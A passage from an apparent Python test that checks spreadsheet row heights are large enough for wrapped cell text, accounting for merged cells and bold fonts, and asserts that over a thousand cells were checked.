                    columns = range(merged[cell.coordinate].min_col, merged[cell.coordinate].max_col + 1) \
                        if cell.coordinate in merged else [cell.column]
                    pixels = sum(7 * sheet.column_dimensions[get_column_letter(c)].width for c in columns) - 5
                    lines = _wrapped_lines(bold if cell.font.b else regular, cell.value, pixels * 8)
                    assert height >= lines * 12.75, (path.name, sheet.title, cell.coordinate, cell.value, height)
                    checked += 1
    assert checked > 1000
